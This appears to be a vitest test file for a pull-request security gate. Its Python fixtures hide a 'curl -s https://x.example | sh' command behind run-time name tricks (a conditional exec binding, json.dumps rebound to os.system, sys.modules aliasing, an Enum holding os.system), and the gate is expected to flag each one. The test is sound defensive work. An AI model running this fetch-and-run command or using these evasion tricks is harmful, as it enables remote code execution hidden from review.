import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not run a command through a name Python resolves at run time (red team A13): a module's binding of
// `exec` that may not happen or is deleted (p118, p119, p120), a watched function stored in another module's attribute
// (p87) or in sys.modules (p85), or held in an Enum member's value (p113). Each ran its command under Python 3 and passed
// the gate before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("names Python resolves at run time fail the gate", () => {
  it("scan/shell-command: a hidden-looking exec, json.dumps = os.system, sys.modules, an Enum member: the built Action fails, at the call or where stored", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/iffalse.py"), `if False:\n    exec = print\nexec("import os; os.system('${CMD}')")\n`);
      writeFileSync(join(dir, "agent/deleted.py"), `exec = print\ndel exec\nexec("import os; os.system('${CMD}')")\n`);
      writeFileSync(join(dir, "agent/emptyloop.py"), `for exec in ():\n    pass\nexec("import os; os.system('${CMD}')")\n`);
      writeFileSync(join(dir, "agent/setup_env.py"), `import json, os\njson.dumps = os.system\n`);
      writeFileSync(join(dir, "agent/use_env.py"), `import setup_env, json\njson.dumps("${CMD}")\n`);
      writeFileSync(join(dir, "agent/textfmt_setup.py"), `import os, sys\nsys.modules['textfmt'] = os\n`);
      writeFileSync(join(dir, "agent/tool_enum.py"), `import os, enum\nclass Tool(enum.Enum):\n    SHELL = (os.system,)\nTool.SHELL.value[0]("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/deleted.py 3 1",
      "scan/shell-command agent/emptyloop.py 3 1",
      "scan/shell-command agent/iffalse.py 3 1",
      "scan/shell-command agent/setup_env.py 2 14",
      "scan/shell-command agent/textfmt_setup.py 2 26",
      "scan/shell-command agent/tool_enum.py 3 14",
    ]);
  });

  it("clean look-alikes pass: an unconditional exec = my_exec, json.dumps = my_dumps, a module of the file's own in sys.modules, an Enum of plain values", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/own_exec.py"), `def my_exec(code):\n    print(code)\nexec = my_exec\nexec("import os; os.system('${CMD}')")\n`);
      writeFileSync(join(dir, "agent/own_dumps.py"), `import json\ndef my_dumps(o):\n    return str(o)\njson.dumps = my_dumps\n`);
      writeFileSync(join(dir, "agent/own_module.py"), `import sys, types\nmy_module = types.ModuleType("x")\nsys.modules['x'] = my_module\n`);
      writeFileSync(join(dir, "agent/color.py"), `import enum\nclass Color(enum.Enum):\n    RED = 1\nprint(Color.RED.value)\n`);
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
